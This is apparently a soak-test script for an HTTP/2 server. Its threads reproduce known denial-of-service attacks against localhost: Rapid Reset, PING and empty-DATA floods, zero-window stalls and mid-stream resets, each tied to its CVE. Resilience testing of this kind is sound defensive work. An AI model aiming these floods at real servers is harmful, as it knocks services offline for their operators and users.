#!/usr/bin/python3
"""Abusive HTTP/2 (h2c) clients for tests/soak/run.sh --h2.

Threads that, until --seconds, repeat on fresh connections:

  rapid     HEADERS + RST_STREAM pairs in bulk (CVE-2023-44487)
  ping      PING frames in bulk (a flood: CVE-2019-9512)
  empty     empty DATA frames on an open stream (CVE-2019-9518)
  stall     zero flow-control windows on streams for a large file (the
            server must not keep pages wired: its send timeout ends it)
  resetmid  a large file, RST_STREAM after the first DATA, then close

Counts what the server answered (GOAWAY codes, closes).  The soak's verdict
is the well-formed clients' error count and the server's health, fds and
RSS; the last line printed is a key=value summary.  Uses Debian's
python3-h2 packages (hpack, hyperframe).
"""
import argparse
import collections
import socket
import threading
import time

import hpack
from hyperframe.frame import (DataFrame, Frame, GoAwayFrame, HeadersFrame, PingFrame,
                              RstStreamFrame, SettingsFrame)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
counts = collections.Counter()
lock = threading.Lock()


def count(key):
    with lock:
        counts[key] += 1


class Conn:
    def __init__(self, port, window=None):
        self.s = socket.create_connection(("127.0.0.1", port), timeout=5)
        self.enc = hpack.Encoder()
        st = SettingsFrame(0)
        if window is not None:
            st.settings = {SettingsFrame.INITIAL_WINDOW_SIZE: window}
        self.s.sendall(PREFACE + st.serialize())

    def headers(self, sid, path, end_stream=True):
        f = HeadersFrame(sid, data=self.enc.encode([(":method", "GET" if end_stream else "POST"),
                                                     (":scheme", "http"), (":authority", "h"),
                                                     (":path", path)]))
        f.flags = {"END_HEADERS"} | ({"END_STREAM"} if end_stream else set())
        return f

    def send(self, frames):
        try:
            self.s.sendall(b"".join(f.serialize() for f in frames))
            return True
        except OSError:
            return False

    def wait(self, timeout, until_data=False):
        """Read until GOAWAY, close, DATA (if asked) or timeout; count what ended it."""
        buf = b""
        deadline = time.time() + timeout
        while time.time() < deadline:
            self.s.settimeout(max(0.05, deadline - time.time()))
            try:
                chunk = self.s.recv(1 << 16)
            except socket.timeout:
                continue
            except OSError:
                chunk = b""
            if not chunk:
                count("closed")
                return "closed"
            buf += chunk
            while len(buf) >= 9:
                f, n = Frame.parse_frame_header(memoryview(buf[:9]))
                if len(buf) < 9 + n:
                    break
                f.parse_body(memoryview(buf[9:9 + n]))
                buf = buf[9 + n:]
                if isinstance(f, GoAwayFrame):
                    count("goaway_%d" % f.error_code)
                    return "goaway"
                if until_data and isinstance(f, DataFrame):
                    return "data"
        count("timeout")
        return "timeout"

    def close(self):
        self.s.close()


def rapid(port, big):
    c = Conn(port)
    c.send([f for i in range(1500) for f in (c.headers(1 + 2 * i, big),
                                              RstStreamFrame(1 + 2 * i, error_code=8))])
    c.wait(10)
    c.close()


def ping(port, big):
    c = Conn(port)
    c.send([PingFrame(0, opaque_data=i.to_bytes(8, "big")) for i in range(3000)])
    c.wait(10)
    c.close()


def empty(port, big):
    c = Conn(port)
    c.send([c.headers(1, "/4k.bin", end_stream=False)] + [DataFrame(1, data=b"")] * 3000)
    c.wait(10)
    c.close()


def stall(port, big):
    c = Conn(port, window=0)
    c.send([c.headers(1 + 2 * i, big) for i in range(8)])
    c.wait(30)  # the server's send timeout ends it
    c.close()


def resetmid(port, big):
    c = Conn(port)
    c.send([c.headers(1, big)])
    if c.wait(10, until_data=True) == "data":
        c.send([RstStreamFrame(1, error_code=8)])
        count("reset_mid_body")
    c.close()


def worker(fn, port, big, deadline):
    while time.time() < deadline:
        try:
            fn(port, big)
            count(fn.__name__)
        except OSError:
            count(fn.__name__ + "_oserror")


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--seconds", type=float, default=60)
    ap.add_argument("--big", default="/big.bin")
    a = ap.parse_args()
    deadline = time.time() + a.seconds
    ts = [threading.Thread(target=worker, args=(fn, a.port, a.big, deadline))
          for fn in (rapid, ping, empty, stall, resetmid)]
    for t in ts:
        t.start()
    for t in ts:
        t.join()
    print(" ".join("%s=%d" % kv for kv in sorted(counts.items())))


if __name__ == "__main__":
    main()
